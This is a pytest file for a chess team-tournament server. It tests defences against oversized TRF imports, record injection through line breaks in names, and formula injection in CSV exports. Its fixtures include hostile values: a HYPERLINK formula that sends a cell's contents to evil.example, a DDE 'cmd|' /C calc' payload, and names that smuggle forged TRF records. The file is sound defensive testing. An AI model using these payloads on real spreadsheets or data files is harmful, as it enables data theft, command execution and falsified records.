"""Trusting files and names: a hostile TRF import, a name that would inject TRF records, a name a spreadsheet
would run. Every test here failed before the fix it holds.

- A pathological TRF file (``tests/unit/trf/test_trf_bounds.py`` builds them) sent to a real server that runs
  under a memory limit (``RLIMIT_AS``) is refused, 422 ``C.04 Annex 2`` naming the line, and the server
  lives on; ``teamswiss import`` refuses it with exit status 3, under the same kind of limit.
- The warnings of a sloppy file are capped, in the answer and on stderr.
- Names and other one-line texts refuse a line break or control character, 422 naming the field; the TRF
  export never writes one, whatever is stored.
- The CSV exports neutralise a cell that starts like a formula.
- The proof: a tournament full of hostile names, played over three rounds, exported in every format and
  imported again, has the same standings.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import textwrap
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, col, select

from app.models import Club, Player, Team, Tournament
from app.operations.exchange.exports import spreadsheet_cell
from app.services.text import breaking_character
from app.services.trf.common import MAX_WARNINGS
from tests.api.factory import make_club, make_player, make_team, make_tournament, name_committee, ok
from tests.unit.trf.test_trf_bounds import PATHOLOGICAL, TEAM, Case

ROOT = Path(__file__).resolve().parents[2]
TEXT = {"Content-Type": "text/plain; charset=utf-8"}
#: address space the server may take on top of what it holds once migrated, before it serves (RLIMIT_AS);
#: the red team's file asked for 22.8 GB, a junk file of 21 MB for 1.3 GB more
SERVER_BUDGET = 1024 * 1024 * 1024
IMPORT_BUDGET = 512 * 1024 * 1024

needs_proc = pytest.mark.skipif(not Path("/proc/self/status").exists() or not hasattr(resource, "RLIMIT_AS"),
                                reason="the memory limit is read from /proc and set with RLIMIT_AS (Linux)")

LIMIT = """
import resource
def limit(budget):
    with open("/proc/self/status") as f:
        size = next(int(x.split()[1]) * 1024 for x in f if x.startswith("VmSize:"))
    resource.setrlimit(resource.RLIMIT_AS, (size + budget, resource.getrlimit(resource.RLIMIT_AS)[1]))
"""

SERVE = LIMIT + textwrap.dedent("""
    import sys
    from app.cli.main import main
    if main(["migrate"]) != 0:
        sys.exit("teamswiss migrate failed")
    limit(int(sys.argv[2]))
    sys.exit(main(["serve", "--host", "127.0.0.1", "--port", sys.argv[1], "--log-level", "warning"]))
""")


def _env(tmp: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.pop("TEAMSWISS_TEST_DATABASE_URL", None)
    env.update({"TEAMSWISS_DATABASE_URL": f"sqlite:///{tmp / 'limited.db'}", "TEAMSWISS_ENV": "test",
                "TEAMSWISS_ADMIN_USERNAME": "admin", "TEAMSWISS_ADMIN_PASSWORD": "limited-server-pw",
                "PYTHONPATH": str(ROOT)})
    return env


@dataclass
class Limited:
    """A real server under a memory limit, and its administrator's bearer token."""

    proc: subprocess.Popen[bytes]
    url: str
    auth: dict[str, str]
    log: Path

    def post(self, text: str, **params: str) -> tuple[int, dict[str, Any]]:
        query = urllib.parse.urlencode({"allow_duplicate": "true", **params})
        req = urllib.request.Request(f"{self.url}/tournaments/import?{query}", data=text.encode("utf-8"),
                                     headers={**self.auth, **TEXT}, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=300) as r:
                return r.status, {**json.load(r), "content_type": r.headers["content-type"]}
        except urllib.error.HTTPError as exc:
            return exc.code, {**json.load(exc), "content_type": exc.headers["content-type"]}

    def alive(self) -> bool:
        with urllib.request.urlopen(f"{self.url}/healthz", timeout=10) as r:
            return r.status == 200 and self.proc.poll() is None


@pytest.fixture(scope="module")
def limited(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Limited]:
    if not Path("/proc/self/status").exists():
        pytest.skip("the memory limit is read from /proc (Linux)")
    from tests.demo_server import free_port, stop

    tmp = tmp_path_factory.mktemp("limited")
    port = free_port()
    log = tmp / "server.log"
    with open(log, "wb") as out:
        proc = subprocess.Popen([sys.executable, "-c", SERVE, str(port), str(SERVER_BUDGET)], cwd=ROOT,
                                env=_env(tmp), stdout=out, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                with urllib.request.urlopen(f"{url}/healthz", timeout=2):
                    break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(f"the server did not start:\n{log.read_text()}") from None
                time.sleep(0.2)
        form = urllib.parse.urlencode({"username": "admin", "password": "limited-server-pw"}).encode()
        with urllib.request.urlopen(urllib.request.Request(f"{url}/auth/token", data=form), timeout=10) as r:
            token = json.load(r)["access_token"]
        yield Limited(proc, url, {"Authorization": f"Bearer {token}"}, log)
    finally:
        stop(proc)


# --- row 1: a pathological file, to a server under a memory limit and to teamswiss import ------------------


@needs_proc
@pytest.mark.parametrize("case", PATHOLOGICAL, ids=[c.name for c in PATHOLOGICAL])
def test_a_pathological_import_is_refused_and_the_server_lives_on(limited: Limited, case: Case) -> None:
    status, body = limited.post(case.text)
    assert status == 422, (body, limited.log.read_text()[-3000:])
    assert body["content_type"] == "application/problem+json"
    assert body["rule"] == "C.04 Annex 2" and body["line"] == case.line, body
    assert case.message in body["detail"] and len(body["detail"]) < 400
    assert limited.alive()


IMPORT_ALL = LIMIT + textwrap.dedent("""
    import contextlib, io, json, sys, traceback
    from app.cli.main import main
    assert main(["migrate"]) == 0
    limit(int(sys.argv[1]))
    out = []
    for path in sys.argv[2:]:
        err = io.StringIO()
        try:
            with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
                status = main(["import", path])
        except BaseException:  # a traceback is the failure looked for
            status, err = "traceback", io.StringIO(traceback.format_exc()[-2000:])
        out.append([status, err.getvalue()])
    print(json.dumps(out))
""")


@needs_proc
def test_teamswiss_import_refuses_every_pathological_file_with_exit_status_3(tmp_path: Path) -> None:
    paths = []
    for k, case in enumerate(PATHOLOGICAL):
        path = tmp_path / f"hostile-{k}.trf"
        path.write_text(case.text, encoding="utf-8")
        paths.append(str(path))
    run = subprocess.run([sys.executable, "-c", IMPORT_ALL, str(IMPORT_BUDGET), *paths], cwd=ROOT,
                         env=_env(tmp_path), capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr[-3000:]
    for case, (status, err) in zip(PATHOLOGICAL, json.loads(run.stdout.splitlines()[-1]), strict=True):
        assert status == 3, f"{case.name}: {err}"
        assert f"teamswiss: C.04 Annex 2: line {case.line}: " in err, f"{case.name}: {err}"


# --- row 2: warnings are capped ------------------------------------------------------------------------------

JUNK = 400_000  # 8 MB of unknown records


def _junk(count: int = JUNK) -> str:
    k = next(i for i, x in enumerate(TEAM) if x.startswith("001"))
    return "\n".join(TEAM[:k] + [f"999 stray record {i}" for i in range(count)] + TEAM[k:]) + "\n"


@needs_proc
def test_the_warnings_of_an_import_are_capped(limited: Limited) -> None:
    status, body = limited.post(_junk())
    assert status == 201, body
    notes = [w for w in body["warnings"] if w.startswith("line ")]
    assert len(notes) == MAX_WARNINGS
    assert body["warnings"][-1] == f"... and {JUNK - MAX_WARNINGS:,} more warnings"
    assert limited.alive()


def test_teamswiss_import_prints_the_capped_warnings(engine: Any, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    from app.cli.main import main

    path = tmp_path / "junk.trf"
    path.write_text(_junk(5000), encoding="utf-8")
    assert main(["import", str(path)]) == 0
    err = capsys.readouterr().err.splitlines()
    assert len(err) == MAX_WARNINGS + 1
    assert err[-1] == f"teamswiss: {path}: ... and {5000 - MAX_WARNINGS:,} more warnings"


# --- row 3: names are one line --------------------------------------------------------------------------------

INJECTION = "G\n330 -+   1   1   4"
BREAKING = [INJECTION, "A\rB", "A\r\nB", "tab\there", "esc\x1b[2J", "del\x7f", "nel\x85", "ls\u2028x", "ps\u2029x",
            "vt\x0bx", "ff\x0cx", "\x1f"]


@pytest.fixture()
def admin(client: TestClient, engine: Any) -> dict[str, str]:
    from tests.api.conftest import login, make_user

    make_user(engine, "admin", admin=True)
    return login(client, "admin")  # a password login: an API token may not make another


def _world(client: TestClient, admin: dict[str, str]) -> dict[str, Any]:
    t = make_tournament(client, admin)
    club = make_club(client, admin, "Club")
    player = make_player(client, admin, club["id"], "Reserve")
    team = make_team(client, admin, t["id"], club["id"], "Team")
    user = ok(client.post("/users", json={"username": "someone", "password": "password123"}, headers=admin), 201)
    return {"t": t, "club": club, "player": player, "team": team, "user": user}


def _requests(w: dict[str, Any]) -> list[tuple[str, str, str, Any, str]]:
    """(method, path, field, body with ``{}`` where the text goes, what the 422 names)."""
    tid, cid, pid, team, uid = w["t"]["id"], w["club"]["id"], w["player"]["id"], w["team"]["id"], w["user"]["id"]
    out: list[tuple[str, str, str, Any, str]] = []
    for f in ("last_name", "first_name", "title", "federation", "email", "phone"):
        out.append(("PATCH", f"/players/{pid}", f, {f: "{}"}, f))
        out.append(("POST", "/players", f, {"club_id": cid, "last_name": "X", f: "{}"}, f))
    for f in ("name", "short_name", "federation", "city"):
        out.append(("PATCH", f"/clubs/{cid}", f, {f: "{}"}, f))
        out.append(("POST", "/clubs", f, {"name": "X", f: "{}"}, f))
    for f in ("name", "city", "venue", "federation", "chief_arbiter"):
        out.append(("PATCH", f"/tournaments/{tid}", f, {f: "{}"}, f))
        out.append(("POST", "/tournaments", f, {"name": "X", f: "{}"}, f))
    out.append(("PATCH", f"/tournaments/{tid}", "deputy_arbiters", {"deputy_arbiters": ["ok", "{}"]},
                "deputy_arbiters"))
    out.append(("PATCH", f"/tournaments/{tid}", "rules.time_control", {"rules": {"time_control": "{}"}}, "rules"))
    for f in ("name", "nickname"):
        out.append(("PATCH", f"/tournaments/{tid}/teams/{team}", f, {f: "{}"}, f))
        out.append(("POST", f"/tournaments/{tid}/teams", f, {"club_id": cid, "name": "X", f: "{}"}, f))
    out.append(("POST", f"/tournaments/{tid}/teams/{team}/payments", "reference",
                {"amount": "1.00", "paid_on": "2026-11-01", "reference": "{}"}, "reference"))
    for f in ("full_name", "email", "phone"):
        out.append(("PATCH", f"/users/{uid}", f, {f: "{}"}, f))
    for f in ("username", "full_name"):
        out.append(("POST", "/users", f, {"username": "new-user", "password": "password123", f: "{}"}, f))
    out.append(("POST", "/auth/api-tokens", "name", {"name": "{}"}, "name"))
    out.append(("PUT", f"/tournaments/{tid}/committee", "members.name",
                {"members": [{"name": "{}", "kind": "regular"}]}, "name"))
    return out


def _fill(body: Any, text: str) -> Any:
    if isinstance(body, dict):
        return {k: _fill(v, text) for k, v in body.items()}
    if isinstance(body, list):
        return [_fill(v, text) for v in body]
    return text if body == "{}" else body


def test_the_red_team_rename_is_refused_naming_the_field(client: TestClient, admin: dict[str, str]) -> None:
    w = _world(client, admin)
    before = ok(client.get(f"/players/{w['player']['id']}", headers=admin))
    r = client.patch(f"/players/{w['player']['id']}", json={"last_name": INJECTION}, headers=admin)
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"
    body = r.json()
    assert body["detail"].startswith("body.last_name: ") and "U+000A line feed" in body["detail"]
    assert body["errors"][0]["loc"] == ["body", "last_name"]
    assert ok(client.get(f"/players/{w['player']['id']}", headers=admin)) == before


def test_every_one_line_field_refuses_every_breaking_character(client: TestClient, admin: dict[str, str]) -> None:
    w = _world(client, admin)
    for method, path, field, body, named in _requests(w):
        for text in BREAKING:
            # a field of 3 or 5 characters gets the character between two letters
            value = f"A{breaking_character(text)}B" if field in ("title", "federation", "nickname") else text
            r = client.request(method, path, json=_fill(body, value), headers=admin)
            assert r.status_code == 422, (method, path, field, repr(value), r.text)
            assert named in r.json()["detail"], (method, path, field, r.json()["detail"])
        # the same request with one line is valid (it was refused for the character, not its form; the
        # committee's rules may still refuse one member, 409)
        if method in ("PATCH", "PUT"):
            good = "ABC" if field in ("federation", "title", "nickname") else "O'Brien; \"=1+1\", @x"
            r = client.request(method, path, json=_fill(body, good), headers=admin)
            assert r.status_code in (200, 409), (method, path, field, r.text)


def test_the_trf_export_never_writes_a_stored_line_break(client: TestClient, admin: dict[str, str],
                                                         engine: Any) -> None:
    """Data stored before the check (or by another way in) is written on one line, in its columns."""
    tid, _ = _played(client, admin, teams=4, rounds=1)
    before = {fmt: [x[:3] for x in _export(client, tid, admin, fmt).split("\n")] for fmt in ("trf2026", "trf16")}
    with Session(engine) as s:
        p = s.exec(select(Player).order_by(col(Player.id))).first()
        assert p is not None
        p.last_name = INJECTION
        s.add(p)
        team = s.exec(select(Team).where(Team.tournament_id == tid).order_by(col(Team.id))).first()
        assert team is not None
        team.name = "T\n310   9 Fake\u2028x"
        s.add(team)
        t = s.get(Tournament, tid)
        assert t is not None
        t.name, t.chief_arbiter, t.deputy_arbiters = "Open\r\n142 2147483647", "Chief\n112 Fake", ["D\x85x", "E\n112 y"]
        s.add(t)
        s.commit()
    for fmt in ("trf2026", "trf16"):
        text = _export(client, tid, admin, fmt)
        assert all(line.isprintable() for line in text.splitlines()), fmt
        assert [x[:3] for x in text.split("\n")] == before[fmt], "the same records, one a line"
        assert "G 330 -+   1   1   4" in text, "the name, on its record's line"


# --- row 4: CSV cells -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Ρήγας", "Ρήγας"), ("O'Brien", "O'Brien"), ("", ""), (None, ""),
    (-1, -1), (3, 3), (Fraction(-1, 2), "-0.5"), (Fraction(27, 7), "27/7"),
])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell: Any, written: Any) -> None:
    assert spreadsheet_cell(cell) == written


# --- row 5: the proof ------------------------------------------------------------------------------------------

FORMULA = ("=", "+", "-", "@", "\t", "\r")
TEAM_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3", "Quote \"double\" 'single'; semi, comma", "T" * 100, "Ρήγας ΟΑΧ 🏆"]
CLUB_NAMES = ["=1+1", "+club", "@club", "-club", "club; \"quoted\", comma", "C" * 200, "### club"]
PLAYER_NAMES = [("330 -+   1   1   4", "=cmd"), ("001    1 m", "+1"), ("O'Brien, Jr", "@x"), ("-1", "-2"),
                ("L" * 100, "F" * 100), ("\"Quoted\"", "semi;colon"), ("### comment", "Zoë"), ("Ρήγας", "Κώστας")]


def _played(client: TestClient, admin: dict[str, str], teams: int = 5, rounds: int = 3,
            hostile: bool = False) -> tuple[int, list[dict[str, Any]]]:
    """A tournament of ``teams`` teams (hostile names if asked), ``rounds`` rounds paired, played (mixed results,
    a whole match forfeited in the last round) and completed. The forfeit comes last: the team is expelled
    (R-7.4), and a file cannot say that the rounds after it were not absences (C.07 counts them otherwise)."""
    body: dict[str, Any] = {
        "name": "Quote \"Open\"; =1+1, @home" if hostile else "Open", "preset": "k12-2025",
        "start_date": "2026-12-10", "city": "+Athens" if hostile else "", "chief_arbiter": "@Chief",
        "deputy_arbiters": ["-Deputy", "=D2"],
        "move_schedule": True,  # the C.07 text follows the start date, which the file says (042)
        "rules": {"entry_deadline": None, "roster_deadline": None, "substitution_deadline": None, "round_starts": []},
    }
    t = ok(client.post("/tournaments", json=body, headers=admin), 201)
    tid = t["id"]
    out = []
    for i in range(teams):
        club = make_club(client, admin, CLUB_NAMES[i % len(CLUB_NAMES)] + (f" {i}" if i >= len(CLUB_NAMES) else "")
                         if hostile else f"Club {i}")
        team = make_team(client, admin, tid, club["id"], TEAM_NAMES[i] if hostile else f"Team {i}")
        pids = []
        for k in range(5):
            last, first = PLAYER_NAMES[(i * 5 + k) % len(PLAYER_NAMES)] if hostile else (f"P{i}-{k}", "A")
            p = make_player(client, admin, club["id"], last, first_name=first, rating=2000 - 40 * i - 10 * k,
                            sex="w" if k == 3 else "m")  # a girl in the base lineup (R-3.2)
            pids.append(p["id"])
        ok(client.put(f"/tournaments/{tid}/teams/{team['id']}/roster", json={"player_ids": pids}, headers=admin))
        out.append({**team, "player_ids": pids})
    ok(client.post(f"/tournaments/{tid}/ranking/lock", headers=admin))
    name_committee(client, admin, tid)
    codes = ["1-0", "0-1", "1/2-1/2", "1-0", "0-1", "1/2-1/2", "1-0"]
    for n in range(1, rounds + 1):
        ok(client.post(f"/tournaments/{tid}/rounds/{n}/pair", headers=admin))
        rnd = ok(client.post(f"/tournaments/{tid}/rounds/{n}/publish", headers=admin))
        results: list[dict[str, Any]] = []
        for k, m in enumerate(x for x in rnd["matches"] if not x["pab"]):
            if n == rounds and k == 0:
                results.append({"table": m["table"], "forfeit": "second"})
                continue
            for b in m["boards"]:
                result = b["result"] or codes[(n + k + b["board"]) % len(codes)]
                if b["result"] is None:
                    results.append({"table": m["table"], "board": b["board"], "result": result})
        ok(client.post(f"/tournaments/{tid}/rounds/{n}/results", json={"results": results}, headers=admin))
        ok(client.post(f"/tournaments/{tid}/rounds/{n}/complete", headers=admin))
    return tid, out


def _export(client: TestClient, tid: int, auth: dict[str, str], fmt: str) -> str:
    r = client.get(f"/tournaments/{tid}/export/trf", params={"format": fmt}, headers=auth)
    assert r.status_code == 200, r.text
    return r.content.decode("utf-8")


def _standings(client: TestClient, tid: int) -> list[tuple[Any, ...]]:
    st = ok(client.get(f"/tournaments/{tid}/standings"))
    return [(r["rank"], r["tied"], r["team"]["tpn"], r["mp"], r["gp"], r["won"], r["drawn"], r["lost"], r["byes"],
             r["forfeit_wins"], r["forfeit_losses"], tuple(x["value"] for x in r["tiebreaks"])) for r in st["rows"]]


K12 = {"preset": "k12-2025"}  # the base settings of the tournaments above, for what a file does not say


def _import(client: TestClient, auth: dict[str, str], text: str, **params: str) -> dict[str, Any]:
    body: dict[str, Any] = ok(client.post("/tournaments/import", content=text.encode("utf-8"),
                                          params={"allow_duplicate": "true", **params}, headers={**auth, **TEXT}),
                              201)
    return body


def test_a_tournament_of_hostile_names_survives_every_export_and_import(client: TestClient,
                                                                        admin: dict[str, str]) -> None:
    tid, teams = _played(client, admin, teams=7, hostile=True)
    want = _standings(client, tid)
    assert len(want) == 7 and 1 in {r[9] for r in want} and 1 in {r[8] for r in want}, "a forfeit and a PAB"
    names = {tm["name"] for tm in ok(client.get(f"/tournaments/{tid}/teams?limit=100"))["items"]}
    assert names == set(TEAM_NAMES), "every hostile name was taken as it is"
    for fmt, params in (("trf2026", K12), ("trf16", K12)):
        text = _export(client, tid, admin, fmt)
        assert all(line.isprintable() for line in text.splitlines())
        again = _import(client, admin, text, **params)
        assert _standings(client, again["id"]) == want, fmt
        # and the file it exports is the same file: nothing moved between columns
        assert _export(client, again["id"], admin, fmt) == text, fmt
    public = client.get(f"/tournaments/{tid}/export/trf")
    assert public.status_code == 200
    assert _standings(client, _import(client, admin, public.content.decode("utf-8"), **K12)["id"]) == want
    # the JSON export (import takes TRF only) holds every name exactly, and the same standings
    doc = ok(client.get(f"/tournaments/{tid}/export/json", headers=admin))
    assert {tm["name"] for tm in doc["teams"]} == names
    assert {p["last_name"] for p in doc["players"]} == {last for last, _ in PLAYER_NAMES}
    assert [(r["rank"], r["team"]["tpn"], r["mp"], r["gp"]) for r in doc["standings"]["rows"]] == \
           [(r[0], r[2], r[3], r[4]) for r in want]
    # the CSV exports: every text cell that starts like a formula is neutralised, the numbers stay numbers
    rows = _csv(client, f"/tournaments/{tid}/export/standings.csv")
    for row in rows[1:]:
        assert not row[3].startswith(FORMULA) and not row[4].startswith(FORMULA), row
        assert int(row[0]) >= 1 and int(row[2]) >= 1 and Fraction(row[5]) >= 0 and Fraction(row[6]) >= 0, row
    assert {row[3] for row in rows[1:]} == {("'" + n if n.startswith(FORMULA) else n) for n in TEAM_NAMES}
    assert {row[4] for row in rows[1:]} == {("'" + n if n.startswith(FORMULA) else n) for n in CLUB_NAMES}
    results = set()
    for n in (1, 2, 3):
        rows = _csv(client, f"/tournaments/{tid}/export/pairings.csv?round={n}")
        for row in rows[1:]:
            for k in (4, 6, 9, 12):  # the teams' and players' names
                assert not row[k].startswith(FORMULA), row[k]
            results.add(row[16])
    # the server's own marks are written as they are: a whole-match forfeit, the results of the boards
    assert results >= {"forfeit: second", "1-0", "0-1", "1/2-1/2"}, results


def _csv(client: TestClient, url: str) -> list[list[str]]:
    r = client.get(url)
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_legacy_hostile_names_survive_export_and_import(client: TestClient, admin: dict[str, str],
                                                        engine: Any) -> None:
    """Names stored before the check (tabs, line breaks, U+2028): the exports stay well formed, the standings
    come back, and a CSV cell that starts with a tab or CR is neutralised."""
    tid, _ = _played(client, admin, teams=5, rounds=2)
    want = _standings(client, tid)
    with Session(engine) as s:
        team_rows = s.exec(select(Team).where(Team.tournament_id == tid).order_by(col(Team.id))).all()
        for team, name in zip(team_rows, ["\t=cmd", "\r=1+1", "A\nB", "x\u2028y", "\x1b[31mred"], strict=True):
            team.name = name
            s.add(team)
        for k, p in enumerate(s.exec(select(Player).order_by(col(Player.id))).all()):
            p.last_name = [INJECTION, "tab\tname", "nel\x85", "\u2029"][k % 4]
            s.add(p)
        club = s.exec(select(Club).order_by(col(Club.id))).first()
        assert club is not None
        club.name = "\t+club"
        s.add(club)
        s.commit()
    for fmt, params in (("trf2026", K12), ("trf16", K12)):
        text = _export(client, tid, admin, fmt)
        assert all(line.isprintable() for line in text.splitlines()), fmt
        assert _standings(client, _import(client, admin, text, **params)["id"]) == want, fmt
    rows = _csv(client, f"/tournaments/{tid}/export/standings.csv")
    assert {row[3] for row in rows[1:]} >= {"'\t=cmd", "'\r=1+1"}
    assert "'\t+club" in {row[4] for row in rows[1:]}
